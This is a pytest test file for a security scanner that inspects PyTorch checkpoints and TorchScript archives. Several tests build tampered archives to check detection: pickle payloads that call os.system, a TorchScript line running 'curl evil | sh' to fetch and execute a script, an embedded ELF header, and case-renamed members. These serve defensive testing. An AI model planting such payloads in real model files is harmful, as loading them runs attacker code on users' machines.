"""PyTorch zip checkpoints and TorchScript archives written by torch itself."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

torch = pytest.importorskip("torch")

from tests.scanner.containers.conftest import PickleCall, rule_ids, scan  # noqa: E402

PAYLOAD = (
    b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
    b"\x8c\x02id\x94\x85\x94R\x94."
)


class Tiny(torch.nn.Module):  # type: ignore[misc]
    def __init__(self) -> None:
        super().__init__()
        self.fc = torch.nn.Linear(4, 3)
        self.out = torch.nn.Linear(3, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.out(torch.relu(self.fc(x)))


def _rewrite(src: Path, dst: Path, change: dict[str, bytes]) -> None:
    """Copy a torch archive member by member, replacing some members' data."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, change.get(info.filename, zin.read(info)))


def test_state_dict_checkpoint(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "model.pt"
    torch.save(Tiny().state_dict(), path)
    result = scan(path)
    assert rule_ids(result) == []
    assert result.format == "pytorch-zip"
    assert "pytorch-zip" in result.formats_seen
    assert result.metadata["torch_archive_version"] == "3"
    assert result.metadata["torch_byteorder"] == "little"
    # Only the pickle reaches the analyzer, with persistent ids expected; the four tensor
    # storages are sniffed, not analysed.
    (call,) = pickle_calls
    assert call.location.members[0].endswith("/data.pkl")
    assert call.persistent_ids_expected
    with zipfile.ZipFile(path) as z:
        assert call.data == z.read(call.location.members[0])


def test_whole_module_checkpoint(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "model.pth"
    torch.save(Tiny(), path)
    result = scan(path)
    assert rule_ids(result) == []
    assert [c.persistent_ids_expected for c in pickle_calls] == [True]
    assert b"Tiny" in pickle_calls[0].data


def test_torchscript_archive(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    path = tmp_path / "scripted.pt"
    torch.jit.save(torch.jit.script(Tiny()), str(path))
    result = scan(path)
    assert rule_ids(result) == []
    assert {"pytorch-zip", "torchscript"} <= set(result.formats_seen)
    # torch.jit's own unpickler reads every pickle of a TorchScript archive, debug ones too
    assert all(c.persistent_ids_expected and c.torchscript for c in pickle_calls)
    members = sorted(c.location.members[0].split("/", 1)[1] for c in pickle_calls)
    assert "constants.pkl" in members and "data.pkl" in members
    assert any(m.endswith(".debug_pkl") for m in members)


def test_real_torchscript_archives_have_no_findings(tmp_path: Path) -> None:
    # Real analysis (no recorder): torch.jit._pickle helpers and __torch__ classes are read
    # by TorchScript's own unpickler and must not read as unknown or dangerous imports.
    for i, module in enumerate(
        [Tiny(), torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU())]
    ):
        path = tmp_path / f"scripted{i}.pt"
        torch.jit.save(torch.jit.script(module), str(path))
        result = scan(path)
        assert result.format == "torchscript"
        assert rule_ids(result) == []


def test_payload_in_a_torchscript_data_pkl_is_still_found(tmp_path: Path) -> None:
    clean = tmp_path / "clean.pt"
    torch.jit.save(torch.jit.script(Tiny()), str(clean))
    with zipfile.ZipFile(clean) as z:
        data_name = next(n for n in z.namelist() if n.endswith("/data.pkl"))
    tampered = tmp_path / "tampered.pt"
    _rewrite(clean, tampered, {data_name: b"cos\nsystem\n(S'id'\ntR."})
    result = scan(tampered)
    assert ("PICKLE-CALL-DANGEROUS", "os.system") in {
        (f.rule_id, f.evidence.get("callable")) for f in result.findings
    }


def test_torchscript_code_calling_os_system(tmp_path: Path, pickle_calls: list[PickleCall]) -> None:
    clean = tmp_path / "clean.pt"
    torch.jit.save(torch.jit.script(Tiny()), str(clean))
    with zipfile.ZipFile(clean) as z:
        code_name = next(
            n for n in z.namelist() if n.endswith(".py") and b"class Tiny" in z.read(n)
        )
        code = z.read(code_name)
    evil = code.replace(
        b"    return", b'    ops.prim.Print(os.system("curl evil | sh"))\n    return', 1
    )
    tampered = tmp_path / "tampered.pt"
    _rewrite(clean, tampered, {code_name: evil})
    result = scan(tampered)
    assert rule_ids(result) == ["TORCHSCRIPT-SUSPICIOUS-CODE"]
    assert result.findings[0].evidence["calls"] == "os.system"
    assert result.findings[0].location.members == (code_name,)


def test_storage_holding_a_pickle_is_analysed(
    tmp_path: Path, pickle_calls: list[PickleCall]
) -> None:
    clean = tmp_path / "clean.pt"
    torch.save({"w": torch.arange(64, dtype=torch.float32)}, clean)
    with zipfile.ZipFile(clean) as z:
        storage = next(n for n in z.namelist() if n.rsplit("/", 2)[-2:][0] == "data")
    tampered = tmp_path / "tampered.pt"
    _rewrite(clean, tampered, {storage: PAYLOAD + bytes(256 - len(PAYLOAD))})
    result = scan(tampered)
    assert rule_ids(result) == []
    assert [(c.location.members, c.persistent_ids_expected) for c in pickle_calls][-1] == (
        (storage,),
        False,
    )


def test_storage_holding_an_executable_is_reported(
    tmp_path: Path, pickle_calls: list[PickleCall]
) -> None:
    clean = tmp_path / "clean.pt"
    torch.save({"w": torch.arange(64, dtype=torch.float32)}, clean)
    with zipfile.ZipFile(clean) as z:
        storage = next(n for n in z.namelist() if "/data/" in n)
    tampered = tmp_path / "tampered.pt"
    _rewrite(clean, tampered, {storage: b"\x7fELF\x02\x01\x01\x00" + bytes(248)})
    assert rule_ids(scan(tampered)) == ["ARCHIVE-EXECUTABLE-MEMBER"]


def test_pickle_outside_the_checkpoint_folder_is_found(
    tmp_path: Path, pickle_calls: list[PickleCall]
) -> None:
    clean = tmp_path / "clean.pt"
    torch.save({"w": torch.ones(3)}, clean)
    tampered = tmp_path / "tampered.pt"
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(tampered, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info))
        zout.writestr("archive/extra/notes.txt", PAYLOAD)
    assert rule_ids(scan(tampered)) == []
    found = {c.location.members[0]: c.persistent_ids_expected for c in pickle_calls}
    assert found["archive/extra/notes.txt"] is False


@pytest.mark.slow
def test_large_checkpoint_reads_only_directory_and_pickle(tmp_path: Path) -> None:
    path = tmp_path / "big.pt"
    torch.save({"weight": torch.zeros(50_000_000)}, path)  # 200 MB of tensor data
    try:
        result = scan(path)
        size = path.stat().st_size
    finally:
        path.unlink()
    assert size > 200_000_000
    assert result.errors == ()
    assert not [f for f in result.findings if f.rule_id.startswith(("ZIP-", "ARCHIVE-"))]
    assert result.bytes_read < 64 * 1024
    assert result.duration_s < 5


def test_corpus_checkpoints(corpus_dir: Path, pickle_calls: list[PickleCall]) -> None:
    for name in ("picklescan/data/new_pytorch_model.bin", "modelscan/unsafe_zip_pytorch.pt"):
        pickle_calls.clear()
        result = scan(corpus_dir / "files" / name)
        assert rule_ids(result) == [], name
        assert "pytorch-zip" in result.formats_seen
        assert [c.persistent_ids_expected for c in pickle_calls] == [True], name


def test_torch_zip_loaded_in_memory_matches_file(tmp_path: Path) -> None:
    # torch.save to a buffer writes the same layout as to a file.
    buf = io.BytesIO()
    torch.save({"a": torch.ones(2)}, buf)
    (tmp_path / "m.bin").write_bytes(buf.getvalue())
    assert "pytorch-zip" in scan(tmp_path / "m.bin").formats_seen


# ---- member names as PyTorch's reader looks them up: without regard to case -------------------


def _renamed(src: Path, dst: Path, rename: dict[str, str]) -> None:
    """Copy a torch archive with members renamed (the others keep their names)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            info.filename = rename.get(info.filename, info.filename)
            zout.writestr(info, data)


@pytest.mark.parametrize(
    "spell",
    [
        lambda name: name.replace("data.pkl", "DATA.PKL"),
        lambda name: name.replace("data.pkl", "Data.Pkl"),
        lambda name: name.upper(),
        lambda name: name.replace("/data/", "/DATA/").replace("data.pkl", "data.PKL"),
    ],
    ids=["upper-pkl", "mixed-pkl", "all-upper", "upper-storage-dir"],
)
def test_renamed_members_are_what_torch_load_reads(
    tmp_path: Path, pickle_calls: list[PickleCall], spell: Any
) -> None:
    src, path = tmp_path / "src.pt", tmp_path / "renamed.pt"
    torch.save({"w": torch.ones(3)}, src)
    with zipfile.ZipFile(src) as z:
        names = z.namelist()
    _renamed(src, path, {name: spell(name) for name in names})
    assert torch.load(path, weights_only=False)["w"].tolist() == [1.0, 1.0, 1.0]
    result = scan(path)
    assert result.format == "pytorch-zip"
    (call,) = pickle_calls
    assert call.location.members[0].lower().endswith("/data.pkl")
    assert call.persistent_ids_expected


def test_hostile_pickle_under_an_upper_case_name_is_the_checkpoint_pickle(tmp_path: Path) -> None:
    src, path = tmp_path / "src.pt", tmp_path / "evil.pt"
    torch.save({"w": torch.ones(3)}, src)
    with zipfile.ZipFile(src) as z:
        pkl = next(n for n in z.namelist() if n.endswith("/data.pkl"))
    _rewrite(src, path, {pkl: PAYLOAD})
    renamed = tmp_path / "renamed.pt"
    _renamed(path, renamed, {pkl: pkl.replace("data.pkl", "DATA.PKL")})
    result = scan(renamed)
    assert result.format == "pytorch-zip"
    assert "PICKLE-CALL-DANGEROUS" in rule_ids(result)
